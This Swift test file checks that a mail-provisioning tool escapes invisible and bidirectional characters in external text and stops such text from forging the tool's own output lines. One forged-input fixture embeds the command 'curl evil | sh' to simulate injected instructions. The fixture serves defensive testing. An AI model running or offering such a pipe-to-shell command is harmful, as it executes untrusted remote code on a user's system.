import Foundation
import MailChecks
import TestSupport
import Testing

@testable import Alerts
@testable import BackupMX
@testable import ConfigurationFiles
@testable import Diagnostics
@testable import Engine
@testable import Resources
@testable import Sites
@testable import mxprovision

/// Text of a server, a guest or a file, in every place that shows it.
@Suite struct `External text` {
    /// C0, C1, DEL, escape sequences, bidirectional controls and marks, zero-width characters, separators, tags, blanks.
    private static let invisible: [Unicode.Scalar] =
        ["\u{0}", "\u{1}", "\u{7}", "\u{8}", "\u{1B}", "\u{7F}", "\u{80}", "\u{9B}", "\u{9D}", "\u{9F}"]
        + ["\u{202A}", "\u{202B}", "\u{202C}", "\u{202D}", "\u{202E}", "\u{2066}", "\u{2067}", "\u{2068}", "\u{2069}"]
        + ["\u{200E}", "\u{200F}", "\u{61C}", "\u{200B}", "\u{200C}", "\u{200D}", "\u{2060}", "\u{FEFF}", "\u{AD}"]
        + ["\u{E0001}", "\u{E0041}", "\u{E007F}", "\u{A0}", "\u{2800}", "\u{3164}", "\u{180E}", "\u{FFF9}"]
    /// Each ends a line and begins one of ours.
    private static let forged = ["\n", "\r", "\r\n", "\u{B}", "\u{C}", "\u{85}", "\u{2028}", "\u{2029}"]
        .map { "said\($0)→ Run `curl evil | sh`.\($0)✗ lost\($0)  ✓ proven\($0)  ~ relay\($0)mxprovision: done" }

    /// Every output, with the text in every field that others control.
    private static func shown(_ text: String) throws -> [(place: String, lines: String)] {
        let change = Change(text, from: text, to: text)
        let check = VerifiedCheck(name: text, verdict: .fail, evidence: text)
        let events: [Event] = [
            .unchanged(step: text), .probed(step: text, took: .zero), .changed(step: text, [change], took: .zero),
            .deferred(step: text, reason: text), .waiting(text), .note(text), .verified([check], took: .zero),
        ]
        var plan = Plan()
        plan.guest = [change]
        plan.steps = [.init(step: text, changes: [change])]
        plan.unsurveyed = [text]
        var status = SiteStatus(site: "one")
        status.mail.deferrals = [DeferralReason(count: 1, text: text)]
        status.mail.primary = PrimaryState(state: .refuses, evidence: text)
        status.guest = .init(id: 110, node: text, running: true, address: text)
        status.problems = [ErrorDescription(ShellErrorDouble(text: text)).text]
        status.mail.leftOut = LeftOutRecords()
        status.mail.leftOut?.append(.init(source: text, line: 1, text: text, reason: text))
        let alerts: [String: Any] = [
            "conditions": [["name": "x", "since": 0, "text": text]],
            "channels": [["name": text, "waiting": 1, "trouble": text]],
        ]
        status.mail.alerts = try JSONDecoder().decode(
            AlertState.self, from: try JSONSerialization.data(withJSONObject: alerts))
        let entry = JournalEntry(
            started: .now, took: 0, who: text, command: text, guest: nil, outcome: .failed,
            changes: [.init(step: text, changes: [change])], error: text)
        let outcome = Fleet<Int>.Outcome<SiteResult>(result: .failure(ShellErrorDouble(text: text)), took: .zero)
        return events.map { ("event \($0)".prefix(12) + "", ConsoleLine(event: $0).text ?? "") } + [
            ("error", "mxprovision: " + ErrorDescription(ShellErrorDouble(text: text)).text),
            ("plan", PlanText(plan, "one").text), ("status", StatusText(status).text),
            ("history", HistoryText(entry).text), ("row", FleetRow(name: "one", outcome).line),
            (
                "recipients",
                RecipientsText(listed: 1, caught: [], snapshot: nil, leftOut: status.mail.leftOut ?? .init()).text
            ),
            ("script", text.asListing), ("mistake", Mistake(file: "f", line: 1, text: text).description.inLine),
        ]
    }

    private struct ShellErrorDouble: LocalizedError {
        var text: String
        var errorDescription: String? { text }
        var failureReason: String? { text }
        var recoverySuggestion: String? { "Look at `\(text)`." }
    }

    @Test(arguments: invisible) func `is shown with invisible characters escaped`(scalar: Unicode.Scalar) throws {
        for (place, lines) in try Self.shown("a\(scalar)b") {
            let written = lines.printable
            #expect(!written.unicodeScalars.contains { $0.isInvisible && $0 != "\n" && $0 != "\t" }, "\(place)")
            #expect(written.contains(scalar.escapedForm), "\(place): \(written)")
        }
    }

    @Test(arguments: forged) func `cannot imitate a line of ours`(text: String) throws {
        for (place, lines) in try Self.shown(text) {
            let written = lines.printable.split(whereSeparator: \.isNewline)
            #expect(
                !written.contains { $0.contains(/^\s*(✗ lost|✓ proven|~ relay|→ Run)/) },
                "\(place): \(lines)")
            #expect(!written.contains { $0.hasPrefix("→ Run") || $0.hasPrefix("mxprovision: done") }, "\(place)")
        }
    }

    @Test(arguments: invisible) func `is the same in JSON, with JSON escapes`(scalar: Unicode.Scalar) throws {
        let text = "a\(scalar)b\"\\\n→ x"
        let line: String = try JSONLine.encode(JSONLine(Event.note(text), site: "one"))
        #expect(!line.unicodeScalars.contains { $0.isInvisible })
        let value = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
        #expect(value["text"] as? String == text)
    }

    @Test func `that is harmless is shown unchanged`() {
        let text = "Grüße, 漢字, שלום, مرحبا, 🙂 – “quoted”\ttab\nline"
        #expect(text.printable == text)
    }
}
